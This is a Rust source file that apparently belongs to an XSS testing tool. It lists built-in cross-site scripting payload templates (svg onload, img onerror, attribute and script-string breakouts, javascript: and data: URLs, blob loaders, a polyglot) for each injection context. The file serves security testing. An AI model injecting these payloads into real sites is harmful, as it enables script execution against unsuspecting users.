//! Built-in payload templates.
//!
//! `{JS}` marks where the execution expression goes. Event handler bodies are
//! always double-quoted so wrappers and noise never end the tag early.

use crate::models::context::ContextTag::{self, *};
use crate::models::signal::SinkFamily::{self, *};

pub(super) struct BuiltinTemplate {
    pub id: &'static str,
    pub body: &'static str,
    pub requires_inline: bool,
    pub needs_data: bool,
    pub needs_blob: bool,
    pub contexts: &'static [ContextTag],
    pub families: &'static [SinkFamily],
}

const fn inline(
    id: &'static str,
    body: &'static str,
    contexts: &'static [ContextTag],
    families: &'static [SinkFamily],
) -> BuiltinTemplate {
    BuiltinTemplate {
        id,
        body,
        requires_inline: true,
        needs_data: false,
        needs_blob: false,
        contexts,
        families,
    }
}

pub(super) static BUILTIN_TEMPLATES: &[BuiltinTemplate] = &[
    // html text
    inline("ht-svg-onload", r#"<svg onload="{JS}">"#, &[HtmlText, Svg], &[Markup, EventHandler]),
    inline("ht-img-onerror", r#"<img src=x onerror="{JS}">"#, &[HtmlText], &[Markup, EventHandler]),
    inline("ht-script", r#"<script>{JS}</script>"#, &[HtmlText], &[Markup]),
    inline("ht-details-toggle", r#"<details open ontoggle="{JS}">"#, &[HtmlText], &[Markup, EventHandler]),
    inline("ht-input-autofocus", r#"<input autofocus onfocus="{JS}">"#, &[HtmlText], &[EventHandler]),
    inline("ht-iframe-jsurl", r#"<iframe src="javascript:void({JS})">"#, &[HtmlText], &[Markup, Navigation]),
    // html attribute
    inline("ha-dq-script", r#""><script>{JS}</script>"#, &[HtmlAttr], &[Markup]),
    inline("ha-dq-svg", r#""><svg onload="{JS}">"#, &[HtmlAttr], &[Markup, EventHandler]),
    inline("ha-sq-img", r#"'><img src=x onerror="{JS}">"#, &[HtmlAttr], &[Markup, EventHandler]),
    inline("ha-dq-event", r#"" autofocus onfocus="{JS}" x=""#, &[HtmlAttr], &[EventHandler]),
    // js string
    BuiltinTemplate {
        id: "js-sq-break",
        body: "';{JS};//",
        requires_inline: false,
        needs_data: false,
        needs_blob: false,
        contexts: &[JsString],
        families: &[],
    },
    BuiltinTemplate {
        id: "js-dq-break",
        body: "\";{JS};//",
        requires_inline: false,
        needs_data: false,
        needs_blob: false,
        contexts: &[JsString],
        families: &[],
    },
    BuiltinTemplate {
        id: "js-sq-arith",
        body: "'-({JS})-'",
        requires_inline: false,
        needs_data: false,
        needs_blob: false,
        contexts: &[JsString],
        families: &[],
    },
    BuiltinTemplate {
        id: "js-template-expr",
        body: "${{JS}}",
        requires_inline: false,
        needs_data: false,
        needs_blob: false,
        contexts: &[JsString],
        families: &[],
    },
    inline("js-close-script", r#"</script><svg onload="{JS}">"#, &[JsString], &[Markup, EventHandler]),
    // url
    inline("url-jsurl", "javascript:void({JS})", &[Url], &[Navigation]),
    BuiltinTemplate {
        id: "url-data-script",
        body: r#""><script src="data:,{JS}"></script>"#,
        requires_inline: false,
        needs_data: true,
        needs_blob: false,
        contexts: &[Url, HtmlAttr],
        families: &[Markup],
    },
    // svg
    inline(
        "svg-animate-begin",
        r#"<svg><animate onbegin="{JS}" attributeName=x dur=1s>"#,
        &[Svg],
        &[Markup, EventHandler],
    ),
    inline(
        "svg-set-begin",
        r#"<svg><set onbegin="{JS}" attributeName=x to=1>"#,
        &[Svg],
        &[Markup, EventHandler],
    ),
    // style
    inline("style-break-svg", r#"</style><svg onload="{JS}">"#, &[Style], &[Markup, EventHandler]),
    inline("style-onload", r#"<style onload="{JS}"></style>"#, &[Style, HtmlText], &[Markup, EventHandler]),
    // srcdoc
    inline(
        "srcdoc-iframe",
        r#"<iframe srcdoc="&lt;svg onload=&quot;{JS}&quot;&gt;">"#,
        &[Srcdoc, HtmlText],
        &[Markup],
    ),
    BuiltinTemplate {
        id: "srcdoc-blob-script",
        body: r#"<img src=x onerror="var s=document.createElement('script');s.src=URL.createObjectURL(new Blob([`{JS}`]));document.body.appendChild(s)">"#,
        requires_inline: true,
        needs_data: false,
        needs_blob: true,
        contexts: &[Srcdoc, HtmlText],
        families: &[Markup, EventHandler],
    },
    // polyglot
    inline(
        "poly-breakout",
        r#"'"--></textarea></title></style></script><svg onload="{JS}">"#,
        &[HtmlText, HtmlAttr, JsString, Style],
        &[Markup, EventHandler],
    ),
];
